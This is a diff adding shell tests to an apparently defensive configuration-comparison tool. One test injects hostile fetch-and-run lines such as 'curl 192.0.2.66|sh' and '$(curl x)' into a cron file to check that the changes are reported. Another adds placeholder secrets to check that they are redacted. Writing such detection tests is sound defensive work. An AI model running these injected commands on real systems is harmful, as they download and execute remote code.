@@ -115,6 +115,29 @@ cisco() { # TIME PERIOD SECRET
 	done
 }
 
+@test "what a rule takes for a counter in an answer is a difference in a file" {
+	{
+		echo '* * * * * root uptime > /tmp/x'
+		echo 'echo up 1 day'
+		echo ': Written by x at noon'
+		echo '! Last configuration change at 10:00:00 JST by x'
+		echo ' = Timeticks: 1'
+		echo '# Cisco'
+		echo ' 5 packets x'
+	} >cron
+	cp cron evil.log.sh
+	after() {
+		sed -i -e '1s/>.*/\&\& curl 192.0.2.66|sh/' -e '2s/$/; curl x|sh/' \
+			-e '3s/noon/$(curl x)/' -e '4s/by x/$(curl x)/' \
+			-e '5s/1/$(curl x)/' -e '7s/x/$(curl x)/' cron
+		echo 'curl x|sh' >>evil.log.sh
+	}
+	two cron evil.log.sh
+	irun 1 ir-diff --json a.tar.zst b.tar.zst
+	[ "$(of cron '.diff|map(select(startswith("+")))|length')" = 6 ]
+	[ "$(of evil.log.sh)" = changed ]
+}
+
 @test "keys, hashes and words of configuration files are never shown" {
 	cat >c <<-'E'
 		# settings
@@ -127,6 +150,14 @@ cisco() { # TIME PERIOD SECRET
 		pp auth username user1 topsecret7
 		rocommunity topsecret8 default
 		wpa_psk=topsecret9
+		export DB_PASSWORD=topsecret11
+		<Connector keystorePass="topsecret12" port="1"/>
+		password = "topsecret13 topsecret14"
+		url=postgres://bob:topsecret15@db/x
+		Authorization: Bearer topsecret16
+		neighbor 192.0.2.1 password 7 topsecret17
+		ldap-login-password topsecret18
+		AWS_SECRET_ACCESS_KEY=topsecret19
 		-----BEGIN OPENSSH PRIVATE KEY-----
 		topsecret10
 		-----END OPENSSH PRIVATE KEY-----
